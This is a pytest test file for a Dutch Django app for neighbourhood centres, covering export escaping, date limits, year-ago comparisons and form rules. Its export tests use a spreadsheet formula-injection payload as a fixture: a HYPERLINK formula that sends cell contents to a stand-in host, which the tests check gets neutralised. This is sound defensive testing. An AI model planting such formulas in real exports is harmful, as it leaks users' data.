"""Issue 12, one truth per rule: safe Dutch-friendly exports, dates in range, the same period a
year ago, and a few small rules (back after cancelling a shift, an activity starting in the
past, overlapping opening slots)."""

import csv
import datetime
import io
import uuid
import zoneinfo

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from activities.models import Activity, Category, Occurrence
from buurtkamer.dates import (
    BoundedDateField,
    clamp,
    latest_date,
    same_week_a_year_before,
    years_before,
)
from buurtkamer.exports import csv_text, safe_text
from locations.models import Closure, DayPart, LogEntry, OpeningHours, Weekday
from locations.services import purge_old_logbook_entries
from visitors.models import Story, Visit
from volunteers import services as roster_services
from volunteers.models import Assignment, Shift, Task, Training, VolunteerProfile

from .support import OPENING_HOURS_URL, opening_hours_post

D = datetime.date
T = datetime.time
AMSTERDAM = zoneinfo.ZoneInfo("Europe/Amsterdam")
NOW = datetime.datetime(2026, 12, 1, 10, 0, tzinfo=AMSTERDAM)  # a Tuesday
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Klik")'
NOV = {"periode": "anders", "van": "2026-11-01", "tot": "2026-11-30"}


@pytest.fixture(autouse=True)
def now(db):
    with time_machine.travel(NOW, tick=False):
        yield NOW


# Safe cells -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-rm", "'-rm"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-40,0", "-40,0"),  # a plain number is no formula
        ("Fryslân", "Fryslân"),
    ],
)
def test_one_function_makes_a_text_cell_safe(value, expected):
    assert safe_text(value) == expected


@pytest.fixture
def formula_activity(dokkum):
    """An activity and a category whose names are spreadsheet formulas, with two check-ins."""
    category = Category.objects.create(name=HYPERLINK)
    activity = Activity.objects.create(
        location=dokkum,
        title=HYPERLINK,
        category=category,
        starts_on=D(2026, 11, 3),
        starts_at=T(10),
        ends_at=T(11),
    )
    occurrence = Occurrence.objects.create(
        activity=activity, date=D(2026, 11, 3), starts_at=T(10), ends_at=T(11)
    )
    when = datetime.datetime(2026, 11, 3, 10, 15, tzinfo=AMSTERDAM)
    for _number in range(2):
        Visit.objects.create(
            location=dokkum,
            recorded_at=when,
            day_part=dokkum.day_part_at(when),
            occurrence=occurrence,
            client_id=uuid.uuid4(),
        )
    return activity


def test_a_formula_title_is_text_in_the_report_xlsx(formula_activity, staff, login):
    response = login(staff).get(reverse("visitors:report-xlsx"), NOV)

    workbook = load_workbook(io.BytesIO(response.content))
    cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert cells, "the activity is in the export"
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.value == "'" + HYPERLINK


def test_the_report_csv_is_safe_and_opens_in_dutch_excel(formula_activity, staff, login):
    response = login(staff).get(reverse("visitors:report-csv"), NOV)

    assert response.content.startswith("\ufeff".encode())
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["Rapportage bezoekers Buurtkamer"]
    assert rows[1][0] == "Periode" and rows[2][0] == "Locaties"
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert HYPERLINK not in cells


def test_csv_rows_get_a_bom_and_semicolons():
    assert csv_text([["Fryslân", "=1"], [1, None]]) == "\ufeffFryslân;'=1\r\n1;\r\n"


def test_my_data_csv_is_dutch_with_a_bom_and_semicolons(client, login, volunteer):
    VolunteerProfile.objects.create(
        user=volunteer,
        phone="=1+2",
        preferred_weekdays=[2, 4],
        preferred_tasks=[Task.KITCHEN],
        preferred_day_parts=[DayPart.MORNING],
    )
    login(volunteer)

    response = client.get(reverse("volunteers:my-data"), {"format": "csv"})

    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Onderdeel", "Nummer", "Veld", "Waarde"]
    cells = {(row[0], row[2]): row[3] for row in rows[1:]}
    assert cells[("Profiel", "Voorkeursdagen")] == "dinsdag, donderdag"
    assert cells[("Profiel", "Taken die ik graag doe")] == "keuken"
    assert cells[("Profiel", "Voorkeursdagdelen")] == "ochtend"
    assert ("Profiel", "Status") not in cells  # the status is per location now
    assert cells[("Profiel", "Telefoon")] == "'=1+2"
    assert cells[("Account", "E-mailadres")] == volunteer.email


# Dates from URLs ------------------------------------------------------------------------------

BAD_DATES = ["0001-01-01", "9999-12-31", "garbage", "2026-02-30", "99999-01-01"]


def _url_cases():
    for value in [*BAD_DATES, "0001-W01", "9999-W52", "2026-W99"]:
        yield "volunteers:roster", {"slug": "dokkum"}, {"week": value}
        yield "volunteers:roster-print", {"slug": "dokkum"}, {"week": value}
    for value in BAD_DATES:
        yield "activities:calendar", {"slug": "dokkum"}, {"datum": value}
        yield "activities:calendar", {"slug": "dokkum"}, {"datum": value, "weergave": "maand"}
        yield "activities:calendar-all", {}, {"datum": value}
        yield "activities:calendar-all", {}, {"datum": value, "weergave": "maand"}
        for name in ("visitors:report", "visitors:report-csv", "visitors:report-xlsx"):
            yield name, {}, {"periode": "anders", "van": value, "tot": "2026-11-30"}
            yield name, {}, {"periode": "anders", "van": "2026-11-01", "tot": value}
            yield name, {}, {"periode": "anders", "van": value, "tot": value}


@pytest.mark.parametrize(
    ("name", "kwargs", "params"),
    list(_url_cases()),
    ids=lambda value: str(value) if not isinstance(value, dict) else "-".join(value.values()),
)
def test_an_out_of_range_or_wrong_date_in_a_url_is_never_a_500(
    client, staff, coordinator, login, dokkum, name, kwargs, params
):
    login(staff if name == "activities:calendar-all" else coordinator)

    response = client.get(reverse(name, kwargs=kwargs), params, follow=True)

    assert response.status_code == 200
    if response.redirect_chain:  # the nearest valid week or date
        assert len(response.redirect_chain) == 1


def test_a_week_too_far_ahead_redirects_to_the_last_valid_week(client, coordinator, login):
    login(coordinator)
    response = client.get(
        reverse("volunteers:roster", kwargs={"slug": "dokkum"}), {"week": "9999-12-31"}
    )
    last = latest_date()
    year, week, _day = last.isocalendar()
    assert response.status_code == 302
    assert response["Location"].endswith(f"?week={year}-W{week:02d}")


def test_a_report_period_out_of_range_says_so_in_dutch(client, coordinator, login):
    login(coordinator)
    response = client.get(
        reverse("visitors:report"), {"periode": "anders", "van": "0001-01-01", "tot": "2026-11-30"}
    )
    assert response.status_code == 200
    assert (
        "Deze datum ligt te ver terug. Kies een datum vanaf zaterdag 1 januari 2000."
        in response.text
    )
    assert response.context["filters"].preset == "deze-maand"


# Dates from forms -----------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["0001-01-01", "9999-12-31", "1999-12-31", "2032-12-01"])
def test_story_closure_activity_and_training_dates_are_bounded(
    client, coordinator, volunteer, login, dokkum, value
):
    login(coordinator)
    pages = [
        (
            reverse("visitors:stories", kwargs={"slug": "dokkum"}),
            {"date": value, "kind": "story", "text": "Mooi verhaal"},
        ),
        (
            reverse("locations:closures", kwargs={"slug": "dokkum"}),
            {"starts_on": value, "ends_on": value, "reason": "Verbouwing"},
        ),
        (
            reverse("activities:activity-new", kwargs={"slug": "dokkum"}),
            {
                "title": "Breien",
                "category": Category.objects.first().pk,
                "recurrence": "weekly",
                "starts_on": value,
                "starts_at": "10:00",
                "ends_at": "11:00",
                "volunteers_needed": "0",
                "confirm_past": "on",
            },
        ),
        (
            reverse("volunteers:add-training", kwargs={"slug": "dokkum", "pk": volunteer.pk}),
            {"name": "EHBO", "followed_on": value},
        ),
    ]
    for url, data in pages:
        response = client.post(url, data)
        assert response.status_code in (200, 400), url
        assert "Deze datum ligt te ver" in response.text, url
    assert not Story.objects.exists()
    assert not Closure.objects.exists()
    assert not Activity.objects.filter(title="Breien").exists()
    assert not Training.objects.exists()


def test_the_date_bounds_reach_five_years_ahead():
    field = BoundedDateField()
    assert field.clean("2031-12-01") == D(2031, 12, 1)
    assert latest_date(D(2026, 12, 1)) == D(2031, 12, 1)
    assert clamp(D(1, 1, 1)) == D(2000, 1, 1)
    assert clamp(D(9999, 12, 31)) == D(2031, 12, 1)


@pytest.mark.parametrize(
    ("value", "accepted"),
    [
        ("2026-12-01", True),
        ("2025-12-01", True),  # exactly a year back
        ("2025-11-30", False),
        ("0001-01-01", False),
        ("9999-12-31", False),
        ("2026-12-02", False),  # tomorrow
    ],
)
def test_a_logbook_entry_goes_at_most_a_year_back(
    client, volunteer, login, dokkum, value, accepted
):
    login(volunteer)
    response = client.post(
        reverse("locations:logbook-new", kwargs={"slug": "dokkum"}),
        {"date": value, "day_part": "", "kind": "general", "text": "Lamp kapot"},
    )
    assert LogEntry.objects.exists() == accepted
    assert response.status_code == (302 if accepted else 400)


def test_the_purge_goes_by_when_an_entry_was_written_and_keeps_open_follow_ups(dokkum):
    long_ago = NOW - datetime.timedelta(days=800)
    typo = LogEntry.objects.create(location=dokkum, text="Typo", date=D(2000, 1, 1))
    old = LogEntry.objects.create(location=dokkum, text="Oud", created_at=long_ago)
    old_open = LogEntry.objects.create(
        location=dokkum, text="Open", created_at=long_ago, needs_follow_up=True
    )
    old_closed = LogEntry.objects.create(
        location=dokkum,
        text="Afgehandeld",
        created_at=long_ago,
        needs_follow_up=True,
        closed_at=long_ago,
    )

    assert purge_old_logbook_entries() == 2

    assert set(LogEntry.objects.values_list("pk", flat=True)) == {typo.pk, old_open.pk}
    assert not LogEntry.objects.filter(pk__in=[old.pk, old_closed.pk]).exists()


# The same period a year ago -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("day", "years", "expected"),
    [
        (D(2026, 12, 1), 1, D(2025, 12, 1)),
        (D(2028, 2, 29), 1, D(2027, 2, 28)),
        (D(2028, 2, 29), 4, D(2024, 2, 29)),
        (D(2027, 2, 28), 1, D(2026, 2, 28)),
        (D(2028, 2, 29), -1, D(2029, 2, 28)),
    ],
)
def test_years_before_handles_29_february(day, years, expected):
    assert years_before(day, years) == expected


def test_the_same_week_a_year_before_is_the_same_iso_week():
    assert same_week_a_year_before(D(2026, 11, 23)) == D(2025, 11, 24)  # both week 48
    assert same_week_a_year_before(D(2027, 1, 4)) == D(2026, 1, 5)  # both week 1
    # Week 53 of 2026 (2025 has none): the week of its Thursday's date a year back.
    assert same_week_a_year_before(D(2026, 12, 28)) == D(2025, 12, 29)


def test_the_report_compares_with_the_same_period_a_year_ago_on_29_february(staff, login):
    response = login(staff).get(
        reverse("visitors:report"), {"periode": "anders", "van": "2024-02-29", "tot": "2024-02-29"}
    )
    assert response.context["filters"].year_before == (D(2023, 2, 28), D(2023, 2, 28))


# Small rules ----------------------------------------------------------------------------------


def test_back_after_cancelling_a_shift_says_you_are_already_cancelled(
    client, volunteer, login, dokkum
):
    shift = Shift.objects.create(
        location=dokkum,
        date=D(2026, 12, 10),
        day_part=DayPart.AFTERNOON,
        task=Task.HOST,
        starts_at=T(13, 30),
        ends_at=T(16, 30),
        minimum=1,
        maximum=2,
        regular=False,
    )
    assignment = roster_services.take_place(shift, volunteer)
    login(volunteer)
    url = reverse("volunteers:cancel", kwargs={"pk": assignment.pk})
    assert client.post(url, {"reason": ""}).status_code == 302
    assert Assignment.objects.get(pk=assignment.pk).cancelled_at is not None

    response = client.get(url, follow=True)  # the browser's back button

    assert response.status_code == 200
    assert "Je bent al afgemeld voor deze dienst" in response.text


def _activity_post(category, starts_on, **extra):
    return {
        "title": "Breien",
        "category": category.pk,
        "recurrence": "weekly",
        "starts_on": starts_on,
        "starts_at": "10:00",
        "ends_at": "11:00",
        "volunteers_needed": "0",
        **extra,
    }


def test_an_activity_starting_in_the_past_asks_are_you_sure(client, coordinator, login, dokkum):
    category = Category.objects.first()
    url = reverse("activities:activity-new", kwargs={"slug": "dokkum"})
    login(coordinator)
    assert 'name="confirm_past"' not in client.get(url).text

    response = client.post(url, _activity_post(category, "2026-11-03"))

    assert response.status_code == 400
    assert "Weet je het zeker?" in response.text
    assert 'name="confirm_past"' in response.text
    assert not Activity.objects.exists()

    response = client.post(url, _activity_post(category, "2026-11-03", confirm_past="on"))

    assert response.status_code == 302
    assert Activity.objects.get().starts_on == D(2026, 11, 3)


def test_an_activity_from_today_or_later_asks_nothing_and_an_unchanged_past_start_neither(
    client, coordinator, login, dokkum
):
    category = Category.objects.first()
    login(coordinator)
    response = client.post(
        reverse("activities:activity-new", kwargs={"slug": "dokkum"}),
        _activity_post(category, "2026-12-01"),
    )
    assert response.status_code == 302
    activity = Activity.objects.get()
    Activity.objects.filter(pk=activity.pk).update(starts_on=D(2026, 1, 6))

    response = client.post(
        reverse("activities:activity-edit", kwargs={"slug": "dokkum", "pk": activity.pk}),
        _activity_post(category, "2026-01-06", title="Breien en haken"),
    )

    assert response.status_code == 302
    assert Activity.objects.get().title == "Breien en haken"


def test_overlapping_opening_slots_on_one_day_are_a_form_error(client, coordinator, login, dokkum):
    login(coordinator)
    response = client.post(
        OPENING_HOURS_URL,
        opening_hours_post(
            {
                (Weekday.TUESDAY, DayPart.MORNING): ("09:00", "14:00"),
                (Weekday.TUESDAY, DayPart.AFTERNOON): ("13:00", "17:00"),
            }
        ),
    )
    assert response.status_code == 400
    assert "Overlapt met de ochtend (09:00–14:00)" in response.text
    assert not OpeningHours.objects.exists()


def test_touching_opening_slots_are_fine(client, coordinator, login, dokkum):
    login(coordinator)
    response = client.post(
        OPENING_HOURS_URL,
        opening_hours_post(
            {
                (Weekday.TUESDAY, DayPart.MORNING): ("09:00", "13:00"),
                (Weekday.TUESDAY, DayPart.AFTERNOON): ("13:00", "17:00"),
                (Weekday.WEDNESDAY, DayPart.AFTERNOON): ("12:00", "17:00"),
            }
        ),
    )
    assert response.status_code == 302
    assert OpeningHours.objects.count() == 3


def test_a_slot_inside_a_long_one_is_an_overlap_too(client, coordinator, login, dokkum):
    login(coordinator)
    response = client.post(
        OPENING_HOURS_URL,
        opening_hours_post(
            {
                (Weekday.TUESDAY, DayPart.MORNING): ("09:00", "22:00"),
                (Weekday.TUESDAY, DayPart.AFTERNOON): ("13:00", "14:00"),
                (Weekday.TUESDAY, DayPart.EVENING): ("19:00", "21:00"),
            }
        ),
    )
    assert response.status_code == 400
    assert response.text.count("Overlapt met de ochtend") == 2


def test_timezone_is_amsterdam():
    assert timezone.localdate() == D(2026, 12, 1)
